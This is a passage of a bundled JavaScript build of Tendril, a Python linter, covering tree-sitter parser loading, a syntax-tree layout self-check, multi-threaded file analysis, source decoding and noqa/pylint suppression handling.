        for (;;) {
            // Into the child that holds the position, if any.
            if (!cursor.gotoFirstChild())
                break;
            while (!after(cursor.endPosition) && cursor.gotoNextSibling())
                ;
            if (!before(cursor.startPosition) || !after(cursor.endPosition))
                break;
            const type = cursor.nodeType;
            if (type === 'function_definition' || type === 'class_definition') {
                const name = cursor.currentNode.childForFieldName('name');
                // A finding on the name itself (`def f`) belongs to the scope outside f.
                const onName = name && name.startPosition.row === row && name.startPosition.column <= column && column < name.endPosition.column;
                if (name && !onName)
                    names.push(name.text);
            }
        }
    }
    finally {
        cursor.delete();
    }
    return names.length ? names.join('.') : '<module>';
}
function matchKeyOf(ruleId, symbol, snippet) {
    const normalised = snippet.replace(/\s+/g, '');
    return sha256Hex(`${ruleId}\0${symbol}\0${normalised}`).slice(0, 32);
}
// One-shot hashing where the runtime has it (Node 20.12+): no Hash object per finding.
const oneShot = crypto.hash;
const sha256Hex = oneShot
    ? (data) => oneShot('sha256', data, 'hex')
    : (data) => crypto.createHash('sha256').update(data).digest('hex');
const DEFINITIONS = ['function_definition', 'class_definition'];
/**
 * Fills in `matchKey` for the findings of one file (called by the engine while the tree lives).
 * One pass for all findings: the function and class definitions come from the flat tree in
 * pre-order (nested ones after their parent), and a sweep over the findings in order keeps the stack
 * of definitions that enclose the current one. The same symbols as `symbolAt`, without walking
 * the tree once per finding (a file with thousands of findings at one level was quadratic).
 */
function annotateMatchKeys(findings, text, tree) {
    if (findings.length === 0)
        return;
    const offset = (line, column) => tree.rowStart(line - 1) + column - 1;
    const definitions = [];
    // The tree is in pre-order: definitions come in document order, nested ones after their parent.
    const isDefinition = tree.typeSet(DEFINITIONS);
    const { symbol } = tree;
    for (let i = 0; i < tree.count; i++) {
        if (isDefinition[symbol[i]] !== 1)
            continue;
        const name = tree.node(i).childForFieldName('name');
        definitions.push({
            start: tree.startIndex[i],
            end: tree.endIndex[i],
            nameStart: name ? name.startIndex : -1,
            nameEnd: name ? name.endIndex : -1,
            name: name ? text.slice(name.startIndex, name.endIndex) : '',
        });
    }
    const order = findings.map((f, i) => ({ f, i, at: offset(f.line, f.column) })).sort((a, b) => a.at - b.at || a.i - b.i);
    const open = [];
    let next = 0;
    for (const { f, at } of order) {
        while (next < definitions.length && definitions[next].start <= at) {
            const d = definitions[next++];
            while (open.length > 0 && open[open.length - 1].end <= d.start)
                open.pop();
            open.push(d);
        }
        while (open.length > 0 && open[open.length - 1].end <= at)
            open.pop();
        // A finding on a definition's own name (`def f`) belongs to the scope outside it.
        const names = open.filter((d) => d.name && !(d.nameStart <= at && at < d.nameEnd)).map((d) => d.name);
        const snippet = text.slice(at, offset(f.endLine, f.endColumn));
        f.matchKey = matchKeyOf(f.ruleId, names.length ? names.join('.') : '<module>', snippet);
    }
}


/***/ }),

/***/ 3715:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.getParser = getParser;
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
const web_tree_sitter_1 = __nccwpck_require__(3778);
const layout_1 = __nccwpck_require__(3638);
const selfcheck_1 = __nccwpck_require__(4896);
const tree_1 = __nccwpck_require__(3036);
/**
 * Loads tree-sitter (WebAssembly) and the Python grammar once per thread, and checks that the
 * tree copy reads the runtime's memory right (src/engine/selfcheck.ts) before anything is parsed:
 * on a mismatch, every use of the parser fails with that one message.
 *
 * Both `.wasm` files are read from disk and handed over as bytes: next to the bundle in `dist/`
 * (copied there by `scripts/build.js`), or from `node_modules` when running from source.
 */
const WASM_FILES = {
    runtime: { file: 'tree-sitter.wasm', pkg: 'web-tree-sitter' },
    python: { file: 'tree-sitter-python.wasm', pkg: 'tree-sitter-python' },
};
function locateWasm(which) {
    const { file, pkg } = WASM_FILES[which];
    const candidates = [
        path.join(__dirname, file), // dist/ bundle
        path.join(__dirname, '..', '..', 'node_modules', pkg, file), // src/engine when run from source
    ];
    for (const candidate of candidates) {
        if (fs.existsSync(candidate))
            return candidate;
    }
    throw new Error(`cannot find ${file} (looked in ${candidates.join(', ')})`);
}
let ready;
/** The thread's parser, created on first use. */
function getParser() {
    if (!ready) {
        ready = (async () => {
            // Emscripten makes this object the runtime's module: its HEAP views are how src/engine/tree.ts
            // reads the trees.
            const runtime = { wasmBinary: fs.readFileSync(locateWasm('runtime')) };
            await web_tree_sitter_1.Parser.init(runtime);
            (0, tree_1.setRuntimeMemory)(runtime);
            const language = await web_tree_sitter_1.Language.load(fs.readFileSync(locateWasm('python')));
            const parser = new web_tree_sitter_1.Parser();
            parser.setLanguage(language);
            // Test hook, also in the bundles: TENDRIL_TEST_BREAK_LAYOUT=<entry of TREE_LAYOUT> makes that one
            // entry wrong (src/engine/layout.ts, brokenLayout), so that tests can see the self-check stop
            // the run (test/e2e/broken-layout.test.ts). Only the environment sets it, never the scanned files.
            const broken = process.env.TENDRIL_TEST_BREAK_LAYOUT;
            if (broken)
                (0, tree_1.useTreeLayout)((0, layout_1.brokenLayout)(broken));
            (0, selfcheck_1.checkTreeLayout)(parser);
            return parser;
        })();
    }
    return ready;
}


/***/ }),

/***/ 6138:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.MAGLEV_ONLY_BYTES_PER_WORKER = exports.BYTES_PER_STARTED_WORKER = void 0;
exports.analyzeFile = analyzeFile;
exports.jitFlagsForBusyCores = jitFlagsForBusyCores;
exports.batches = batches;
exports.analyzeFiles = analyzeFiles;
const fs = __importStar(__nccwpck_require__(9896));
const os = __importStar(__nccwpck_require__(857));
const v8 = __importStar(__nccwpck_require__(1493));
const worker_threads_1 = __nccwpck_require__(8167);
const analyze_1 = __nccwpck_require__(138);
function notAnalysed(file, id, level, message) {
    return { path: file.rel, findings: [], notifications: [{ level, id, path: file.rel, message }] };
}
/** Reads and analyses one file; an unreadable file or one over the size budget becomes a notification. */
async function analyzeFile(file, ruleSet, budget = analyze_1.DEFAULT_BUDGET) {
    const tooLarge = (size) => notAnalysed(file, 'file-too-large', 'warning', `${file.rel} was not analysed: it has ${size} bytes, over the size budget of ${budget.maxFileSize} bytes (max-file-size).`);
    if (file.size > budget.maxFileSize)
        return tooLarge(file.size);
    let bytes;
    try {
        // Synchronous: the thread has nothing else to do meanwhile, and an await per file left it idle.
        bytes = fs.readFileSync(file.abs);
    }
    catch (error) {
        const code = error.code ?? 'error';
        return notAnalysed(file, 'file-unreadable', 'error', `${file.rel} could not be read (${code}).`);
    }
    if (bytes.length > budget.maxFileSize)
        return tooLarge(bytes.length);
    return (0, analyze_1.analyzeSource)(file.rel, bytes, ruleSet.rules, ruleSet.options, budget, ruleSet.ruleIds);
}
/**
 * Below this many bytes of source per worker, workers that have no idle core beside them run
 * JavaScript with V8's mid-tier compiler (Maglev) only, not TurboFan: TurboFan's compile jobs cost
 * each isolate about 2.3 s of CPU on its own thread, which a short run does not earn back. Measured
 * with 2 workers on 2 cores (docs/performance.md, sixth session): the standard library (15 MiB per
 * worker) ran faster Maglev-only in 5 of 5 alternating pairs (median 12.9 s against 14.9 s); two
 * copies of it (30 MiB per worker) were even; eight copies (120 MiB per worker) ran 15-30% slower
 * Maglev-only, whose code is slower once the compile cost is paid. The limit sits well below the
 * size where Maglev-only stopped paying.
 */
/**
 * A default run (`autoJobs`) starts one worker per this much source, up to `jobs`. A worker costs
 * its start (the bundle and the parser's WebAssembly compiled again, the self-check) before it
 * analyses anything; under this much source a second one finishes later than the first alone
 * would have (docs/performance.md, "Small runs").
 */
exports.BYTES_PER_STARTED_WORKER = 512 * 1024;
exports.MAGLEV_ONLY_BYTES_PER_WORKER = 20 * 1024 * 1024;
/**
 * V8 flags for workers that have no idle core beside them (a worker on every core), set before
 * the workers start (an isolate reads them as it starts and as it tiers up; flags are per process).
 *
 * - `--no-concurrent-recompilation`: with no idle core for V8's background compiler, each worker's
 *   isolate compiled the same code on background threads that took CPU from the workers (thread
 *   CPU counters, stdlib, 2 cores: V8's background threads used 7 to 10 s of CPU beside the
 *   workers' 17 to 23 s; with this flag, 2 to 2.5 s, and the run was about 5% faster in
 *   alternating runs, docs/performance.md).
 * - `--max-opt=2` (Maglev, no TurboFan) for runs under `MAGLEV_ONLY_BYTES_PER_WORKER` per worker,
 *   `--max-opt=999` (V8's default: every tier) otherwise: the flag is set on every call, as one
 *   process may start several pools (a baseline's files after the run's own).
 *
 * The main thread, which only hands out files and writes reports, has the same flags once set.
 */
function jitFlagsForBusyCores(bytesPerWorker) {
    const maglevOnly = bytesPerWorker < exports.MAGLEV_ONLY_BYTES_PER_WORKER;
    // `--max-opt` alone does not switch TurboFan off once V8 has started: its implication on
    // `--turbofan` is only drawn at start-up (checked with --trace-opt), so both are set.
    return ['--no-concurrent-recompilation', ...(maglevOnly ? ['--max-opt=2', '--no-turbofan'] : ['--max-opt=999', '--turbofan'])];
}
/**
 * Size-balanced batches: the files, largest first, dealt into batches of about `target` bytes
 * (a file larger than that is a batch of its own), so each message to a worker carries a similar
 * amount of work and the big files start first. Deterministic: the same files give the same batches.
 */
function batches(files, threads) {
    const order = files.map((_, i) => i).sort((a, b) => files[b].size - files[a].size || a - b);
    const total = files.reduce((sum, f) => sum + f.size, 0);
    // About eight batches per thread: few messages, and the last batches are small enough to even out the end.
    const target = Math.max(1, Math.ceil(total / (threads * 8)));
    const out = [];
    let current = [];
    let size = 0;
    for (const i of order) {
        current.push(i);
        size += files[i].size;
        // At most 64 files a batch, so a run of tiny files still spreads over the threads.
        if (size >= target || current.length >= 64) {
            out.push(current);
            current = [];
            size = 0;
        }
    }
    if (current.length > 0)
        out.push(current);
    return out;
}
/**
 * Analyses files on `jobs` worker threads in size-balanced batches (largest first). Results come
 * back in the order of `files`, whatever the thread count, so the output is the same bytes for any
 * `--jobs`. A worker that does not answer within the time budget of its batch is stopped, its
 * unfinished files are reported as over budget, and a new worker takes the rest.
 */
async function analyzeFiles(files, ruleSets, options) {
    const budget = options.budget ?? analyze_1.DEFAULT_BUDGET;
    const total = files.reduce((sum, f) => sum + f.size, 0);
    const threads = Math.min(options.jobs, files.length, options.autoJobs ? Math.max(1, Math.ceil(total / exports.BYTES_PER_STARTED_WORKER)) : Infinity);
    let done = 0;
    const progress = () => options.onProgress?.(++done);
    if (!options.workerScript || options.jobs <= 1 || (threads <= 1 && !options.autoJobs)) {
        const results = [];
        for (const file of files) {
            results.push(await analyzeFile(file, ruleSets[file.profile ?? 0], budget));
            progress();
        }
        return results;
    }
    if (threads >= os.availableParallelism()) {
        for (const flag of jitFlagsForBusyCores(total / threads))
            v8.setFlagsFromString(flag);
    }
    const results = new Array(files.length);
    const queue = batches(files, threads);
    let next = 0;
    const setup = {
        tendrilWorker: true,
        ruleSets: ruleSets.map((s) => ({ ruleIds: s.rules.map((r) => r.meta.id), options: s.options, known: s.ruleIds && [...s.ruleIds] })),
        budget,
    };
    const script = options.workerScript;
    const runWorker = () => new Promise((resolve, reject) => {
        // A larger young generation than the default: each file's tree, nodes and findings die
        // young, and fewer scavenges promoted less (measured: about 5% faster, lower peak memory).
        const worker = new worker_threads_1.Worker(script, { workerData: setup, resourceLimits: { maxYoungGenerationSizeMb: 48 } });
        let current;
        let left = 0;
        let watchdog;
        // The analysis checks its own budget; this is the backstop for a file stuck where it cannot
        // look (inside the parser, or one long step of a rule): twice the budget, plus slack.
        const arm = () => {
            clearTimeout(watchdog);
            watchdog = setTimeout(() => abandon(), budget.timeoutSeconds * 2000 + (options.watchdogGraceMs ?? 10_000));
        };
        const feed = () => {
            clearTimeout(watchdog);
            if (next >= queue.length) {
                current = undefined;
                void worker.terminate().then(() => resolve());
                return;
            }
            const id = next++;
            current = queue[id];
            left = current.length;
            arm();
            worker.postMessage({ batch: id, files: current.map((i) => files[i]) });
        };
        const abandon = () => {
            const stuck = (current ?? []).filter((i) => !results[i]);
            current = undefined;
            worker.removeAllListeners();
            void worker.terminate();
            // The first unfinished file is the one that hung; the rest go to a new worker.
            const [hung, ...rest] = stuck;
            if (hung !== undefined) {
                results[hung] = notAnalysed(files[hung], 'file-timeout', 'error', `${files[hung].rel} was not analysed: the analysis did not finish within the time budget (file-timeout, ${budget.timeoutSeconds} s).`);
                progress();
            }
            if (rest.length > 0)
                queue.push(rest);
            runWorker().then(resolve, reject);
        };
        worker.on('message', (message) => {
            results[queue[message.batch][message.k]] = message.result;
            progress();
            if (--left === 0)
                feed();
            else
                arm();
        });
        worker.once('error', (error) => {
            clearTimeout(watchdog);
            reject(error);
        });
        worker.once('online', feed);
    });
    await Promise.all(Array.from({ length: threads }, runWorker));
    return results;
}


/***/ }),

/***/ 4896:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.SELF_CHECK_TREE = exports.SELF_CHECK_SNIPPET = void 0;
exports.describeTree = describeTree;
exports.checkTreeLayout = checkTreeLayout;
const layout_1 = __nccwpck_require__(3638);
const tree_1 = __nccwpck_require__(3036);
/**
 * The self-check of the tree copy, run once per thread when the parser loads
 * (src/engine/parser.ts): a known snippet is parsed and copied (src/engine/tree.ts), and the copy
 * must be the expected tree below and agree, node for node, with what web-tree-sitter's own API
 * says of the same tree. The copy reads tree-sitter's memory with the offsets of
 * src/engine/layout.ts, which no compiler checks; when they are wrong (another web-tree-sitter,
 * another grammar), this stops the run before anything is analysed, instead of every file
 * failing, or worse, giving wrong findings.
 *
 * The snippet touches every entry of the layout: inline leaves (keywords, names) and heap ones
 * (the string's external tokens, a comment over 255 bytes), fields, aliases that reveal a hidden
 * rule as a named node (the one-line `if` body, a `block`) and as an anonymous one (`not in`),
 * extras (comments), an ERROR node, a MISSING token (a heap one: the token after it and its
 * padding, its lookahead, are over 16 bytes), padding across a line (bytes and columns differ), and
 * a character outside the BMP (offsets in UTF-16 units). test/unit/tree-layout.test.ts breaks each
 * entry in turn and expects this check to fail.
 */
exports.SELF_CHECK_SNIPPET = 'def f(a, *b):\n' +
    '    """\\q \u00e9 \u{1f600}"""\n' +
    '    return a.c[0] if b not in a' +
    ' '.repeat(256) +
    'else None  # c\n' +
    'if a: print(b\n )\n' +
    '{[if 1' +
    ' '.repeat(9) +
    '}\n' +
    '#' +
    'x'.repeat(260) +
    '\n';
/**
 * The copy of the snippet: one line per node in pre-order, indented by depth, as `field: type
 * start-end`, with anonymous types in quotes and ` extra`, ` missing`, ` error` (has an error).
 */
exports.SELF_CHECK_TREE = [
    'module 0-630 error',
    '  function_definition 0-333',
    '    "def" 0-3',
    '    name: identifier 4-5',
    '    parameters: parameters 5-12',
    '      "(" 5-6',
    '      identifier 6-7',
    '      "," 7-8',
    '      list_splat_pattern 9-11',
    '        "*" 9-10',
    '        identifier 10-11',
    '      ")" 11-12',
    '    ":" 12-13',
    '    body: block 18-333',
    '      expression_statement 18-31',
    '        string 18-31',
    '          string_start 18-21',
    '          string_content 21-28',
    '            "\\\\" 21-22',
    '          string_end 28-31',
    '      return_statement 36-328',
    '        "return" 36-42',
    '        conditional_expression 43-328',
    '          subscript 43-49',
    '            value: attribute 43-46',
    '              object: identifier 43-44',
    '              "." 44-45',
    '              attribute: identifier 45-46',
    '            "[" 46-47',
    '            subscript: integer 47-48',
    '            "]" 48-49',
    '          "if" 50-52',
    '          comparison_operator 53-63',
    '            identifier 53-54',
    '            operators: "not in" 55-61',
    '              "not" 55-58',
    '              "in" 59-61',
    '            identifier 62-63',
    '          "else" 319-323',
    '          none 324-328',
    '      comment 330-333 extra',
    '  if_statement 334-350',
    '    "if" 334-336',
    '    condition: identifier 337-338',
    '    ":" 338-339',
    '    consequence: block 340-350',
    '      expression_statement 340-350',
    '        call 340-350',
    '          function: identifier 340-345',
    '          arguments: argument_list 345-350',
    '            "(" 345-346',
    '            identifier 346-347',
    '            ")" 349-350',
    '  expression_statement 351-367 error',
    '    set 351-367 error',
    '      "{" 351-352',
    '      list 352-357 error',
    '        "[" 352-353',
    '        ERROR 353-355 extra error',
    '          "if" 353-355',
    '        integer 356-357',
    '        "]" 357-357 missing error',
    '      "}" 366-367',
    '  comment 368-629 extra',
];
/** One line of SELF_CHECK_TREE for node i of a copy. */
function describe(tree, i) {
    let depth = 0;
    for (let p = tree.parentOf[i]; p >= 0; p = tree.parentOf[p])
        depth++;
    const node = tree.node(i);
    const field = node.fieldName;
    return ('  '.repeat(depth) +
        (field ? `${field}: ` : '') +
        (node.isNamed ? node.type : JSON.stringify(node.type)) +
        ` ${node.startIndex}-${node.endIndex}` +
        (node.isExtra ? ' extra' : '') +
        (node.isMissing ? ' missing' : '') +
        (node.hasError ? ' error' : ''));
}
/** The copy of the snippet, described as SELF_CHECK_TREE is. */
function describeTree(tree) {
    return Array.from({ length: tree.count }, (_, i) => describe(tree, i));
}
/** The first difference between web-tree-sitter's view of its tree and the copy, if any. */
function firstDifference(parsed, copy) {
    const cursor = parsed.walk();
    const parents = [];
    let i = 0;
    try {
        for (;;) {
            const node = cursor.currentNode;
            if (i >= copy.count)
                return `the copy has ${copy.count} nodes, tree-sitter more`;
            const ours = copy.node(i);
            const pairs = [
                ['type', node.type, ours.type],
                ['symbol', node.typeId, copy.symbol[i]],
                ['isNamed', node.isNamed, ours.isNamed],
                ['isExtra', node.isExtra, ours.isExtra],
                ['isMissing', node.isMissing, ours.isMissing],
                ['hasError', node.hasError, ours.hasError],
                ['startIndex', node.startIndex, ours.startIndex],
                ['endIndex', node.endIndex, ours.endIndex],
                ['field', cursor.currentFieldName ?? null, ours.fieldName],
                ['parent', parents.length ? parents[parents.length - 1] : -1, copy.parentOf[i]],
            ];
            for (const [what, theirs, mine] of pairs) {
                if (theirs !== mine)
                    return `node ${i} (${node.type} at ${node.startIndex}): ${what} is ${String(mine)} in the copy, ${String(theirs)} in tree-sitter`;
            }
            i++;
            if (cursor.gotoFirstChild()) {
                parents.push(i - 1);
                continue;
            }
            for (;;) {
                if (cursor.gotoNextSibling())
                    break;
                if (!cursor.gotoParent())
                    return i === copy.count ? undefined : `the copy has ${copy.count} nodes, tree-sitter ${i}`;
                parents.pop();
            }
        }
    }
    finally {
        cursor.delete();
    }
}
/** Throws the one message a failed self-check gives: the layout does not match the runtime. */
function mismatch(detail) {
    return new Error(`the syntax tree layout does not match web-tree-sitter ${layout_1.WEB_TREE_SITTER_VERSION}; ${detail}. ` +
        `Tendril reads tree-sitter's memory as web-tree-sitter ${layout_1.WEB_TREE_SITTER_VERSION} and tree-sitter-python ${layout_1.TREE_SITTER_PYTHON_VERSION} ` +
        'lay it out (src/engine/layout.ts), and needs exactly these versions; nothing was analysed');
}
/** Parses and copies the snippet; throws the layout mismatch on any difference. */
function checkTreeLayout(parser) {
    const parsed = parser.parse(exports.SELF_CHECK_SNIPPET);
    if (!parsed)
        throw mismatch('the parser gave no tree for the self-check snippet');
    try {
        let copy;
        try {
            copy = tree_1.SyntaxTree.from(parsed, exports.SELF_CHECK_SNIPPET);
        }
        catch (error) {
            throw mismatch(`the copy of the self-check snippet failed: ${error instanceof Error ? error.message : String(error)}`);
        }
        const difference = firstDifference(parsed, copy);
        if (difference)
            throw mismatch(`in the self-check snippet, ${difference}`);
        const lines = describeTree(copy);
        const k = lines.findIndex((line, n) => line !== exports.SELF_CHECK_TREE[n]);
        if (k >= 0 || lines.length !== exports.SELF_CHECK_TREE.length) {
            const at = k >= 0 ? k : Math.min(lines.length, exports.SELF_CHECK_TREE.length);
            throw mismatch(`the self-check snippet's tree is not the expected one at node ${at}: ` +
                `${JSON.stringify(lines[at]?.trim() ?? null)}, expected ${JSON.stringify(exports.SELF_CHECK_TREE[at]?.trim() ?? null)}`);
        }
    }
    finally {
        parsed.delete();
    }
}


/***/ }),

/***/ 7433:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.codingDeclaration = codingDeclaration;
exports.decodeSource = decodeSource;
const util_1 = __nccwpck_require__(9023);
const CODING = /^[ \t\f]*#.*?coding[:=][ \t]*([-\w.]+)/;
/** PEP 263: the declaration must be on line 1 or 2 (line 2 only if line 1 is a comment or blank). */
function codingDeclaration(bytes) {
    const head = Buffer.from(bytes.subarray(0, 512)).toString('latin1');
    const lines = head.split(/\r\n|\r|\n/, 2);
    const first = CODING.exec(lines[0] ?? '');
    if (first)
        return first[1].toLowerCase();
    if (lines.length > 1 && /^[ \t\f]*(#.*)?$/.test(lines[0])) {
        const second = CODING.exec(lines[1]);
        if (second)
            return second[1].toLowerCase();
    }
    return undefined;
}
function normaliseEncoding(name) {
    const n = name.replace(/_/g, '-');
    if (n === 'utf8' || n.startsWith('utf-8'))
        return 'utf-8';
    if (n === 'latin-1' || n === 'latin1' || n.startsWith('iso-8859-1') || n.startsWith('iso-latin-1'))
        return 'latin1';
    return n;
}
function decodeSource(bytes) {
    if (bytes.includes(0)) {
        return { ok: false, reason: 'contains NUL bytes (Python refuses such source; binary file?)' };
    }
    let body = bytes;
    const hasBom = bytes.length >= 3 && bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
    if (hasBom)
        body = bytes.subarray(3);
    const declared = codingDeclaration(body);
    const encoding = hasBom || !declared ? 'utf-8' : normaliseEncoding(declared);
    let decoder;
    try {
        decoder = new util_1.TextDecoder(encoding, { fatal: true, ignoreBOM: true });
    }
    catch {
        return { ok: false, reason: `declares an encoding this tool does not know: '${declared}'` };
    }
    try {
        const text = decoder.decode(body);
        const utf8 = decoder.encoding === 'utf-8';
        const hashText = () => (utf8 ? (hasBom ? '\ufeff' : '') + text : Buffer.from(bytes).toString('utf8'));
        return { ok: true, text, encoding: decoder.encoding, hashText };
    }
    catch {
        return {
            ok: false,
            reason: declared ? `is not valid ${declared} as its coding declaration says` : 'is not valid UTF-8 and has no coding declaration',
        };
    }
}


/***/ }),

/***/ 2111:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.UNUSED_SUPPRESSION_ID = void 0;
exports.parseDirectives = parseDirectives;
exports.applyDirectives = applyDirectives;
exports.unusedCodes = unusedCodes;
const api_1 = __nccwpck_require__(6750);
const CODE = /^[A-Za-z]+[0-9]+$/;
/** Codes until the first word that is neither a code (F401, B602) nor a rule id (free text follows). */
function codeList(raw, allowNames, ruleIds) {
    if (!raw)
        return [];
    const codes = [];
    for (const word of raw.split(/[\s,]+/).filter(Boolean)) {
        if (CODE.test(word) || ruleIds.has(word) || (allowNames && /^[a-z][a-z0-9-]*$/.test(word)))
            codes.push(word);
        else
            break;
    }
    return codes;
}
function codeMatches(code, meta) {
    return code === 'all' || (0, api_1.namesRule)(code, meta);
}
/** The first line after `row` (0-based) where code indented less than `column` starts, as 1-based line - 1. */
function blockEnd(lines, row, column) {
    for (let i = row + 1; i < lines.length; i++) {
        const line = lines[i];
        const trimmed = line.trimStart();
        if (trimmed === '' || trimmed.startsWith('#'))
            continue;
        if (line.length - trimmed.length < column)
            return i; // 0-based i == 1-based line i, the last covered
    }
    return lines.length;
}
/**
 * Reads the directives in a file's comments (in source order). `ruleIds` are the ids of every rule
 * in the catalogue, enabled or not, so that `# noqa: unused-import` reads the same either way.
 */
function parseDirectives(comments, text, ruleIds) {
    const directives = [];
    let lines;
    const make = (c, written, codes, from, to, lineLevel) => ({
        line: c.row + 1,
        column: c.column + 1,
        endColumn: c.endColumn + 1,
        text: written.trim(),
        codes: codes && codes.length ? codes : undefined,
        from,
        to,
        lineLevel,
        statementFrom: lineLevel && c.statementStartRow !== undefined && from === c.row + 1 ? c.statementStartRow + 1 : from,
        used: new Set(),
    });
    const pendingEnable = [];
    for (const c of comments) {
        const line = c.row + 1;
        let m;
        // File level.
        if (/#\s*(?:tendril:\s*skip-file|pylint:\s*skip-file|flake8[:=]\s*noqa\b)/i.test(c.text)) {
            directives.push(make(c, c.text, undefined, 1, Number.MAX_SAFE_INTEGER, false));
            continue;
        }
        if ((m = /#\s*ruff\s*:\s*noqa\b(?::\s*([^#]*))?/i.exec(c.text))) {
            directives.push(make(c, m[0], m[1] === undefined ? undefined : codeList(m[1], false, ruleIds), 1, Number.MAX_SAFE_INTEGER, false));
            continue;
        }
        for (const re of [/#\s*noqa\b(?::\s*([^#]*))?/gi, /#\s*nosec\b:?\s*([^#]*)/gi]) {
            while ((m = re.exec(c.text)))
                directives.push(make(c, m[0], codeList(m[1], false, ruleIds), line, line, true));
        }
        for (const re = /#\s*tendril\s*:\s*ignore\b(?:\[([^\]]*)\])?/gi; (m = re.exec(c.text));) {
            directives.push(make(c, m[0], codeList(m[1], false, ruleIds), line, line, true));
        }
        for (const re = /#\s*pylint\s*:\s*(disable|disable-next|enable)\s*=\s*([\w\s,-]*)/gi; (m = re.exec(c.text));) {
            const names = m[2].split(/[\s,]+/).filter(Boolean);
            const kind = m[1].toLowerCase();
            if (kind === 'enable') {
                for (const p of pendingEnable) {
                    for (const name of names) {
                        if (p.codes.has(name) && p.directive.to > line - 1)
                            p.directive.to = Math.max(p.directive.from, line - 1);
                    }
                }
                continue;
            }
            const written = `# pylint: ${kind}=${names.join(',')}`;
            if (kind === 'disable-next')
                directives.push(make(c, written, names, line + 1, line + 1, true));
            else if (!c.ownLine)
                directives.push(make(c, written, names, line, line, true));
            else {
                lines ??= text.split(/\r\n|\r|\n/);
                const d = make(c, written, names, line + 1, blockEnd(lines, c.row, c.column), false);
                directives.push(d);
                pendingEnable.push({ directive: d, codes: new Set(names) });
            }
        }
    }
    return directives;
}
function covers(d, f) {
    if (d.lineLevel)
        return f.line === d.from || f.endLine === d.from || (f.line >= d.statementFrom && f.line <= d.from);
    return f.line >= d.from && f.line <= d.to;
}
/** Marks the findings a directive covers as suppressed (the first directive that matches wins). */
function applyDirectives(findings, directives, rules) {
    if (directives.length === 0)
        return;
    const metaById = new Map(rules.map((r) => [r.meta.id, r.meta]));
    for (const finding of findings) {
        const meta = metaById.get(finding.ruleId);
        if (!meta)
            continue;
        for (const d of directives) {
            if (!covers(d, finding))
                continue;
            if (!d.codes) {
                d.used.add('*');
            }
            else {
                const code = d.codes.find((c) => codeMatches(c, meta));
                if (!code)
                    continue;
                d.used.add(code.toUpperCase());
            }
            finding.suppressed ??= d.text;
        }
    }
}
exports.UNUSED_SUPPRESSION_ID = 'unused-suppression';
/**
 * Codes of a directive that name one of the `enabled` rules and suppressed nothing. Bare directives
 * and codes Tendril does not implement (E501) are never "unused": they may be there for another
 * tool. Codes naming `unused-suppression` itself are not judged.
 */
function unusedCodes(d, enabled) {
    if (!d.codes)
        return [];
    return d.codes.filter((code) => {
        if (d.used.has(code.toUpperCase()) || code === 'all')
            return false;
        const named = enabled.filter((rule) => codeMatches(code, rule.meta));
        return named.length > 0 && !named.some((rule) => rule.meta.id === exports.UNUSED_SUPPRESSION_ID);
    });
}


/***/ }),

/***/ 3036:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.SyntaxNode = exports.SyntaxTree = exports.FLAG_NAMED = void 0;
exports.setRuntimeMemory = setRuntimeMemory;
exports.useTreeLayout = useTreeLayout;
const layout_1 = __nccwpck_require__(3638);
let runtime;
/** The layout the copy reads with: TREE_LAYOUT, unless a test broke one entry (useTreeLayout). */
let layout = layout_1.LAYOUT;
/** Called once by src/engine/parser.ts with the module object it passed to `Parser.init`. */
function setRuntimeMemory(memory) {
    runtime = memory;
}
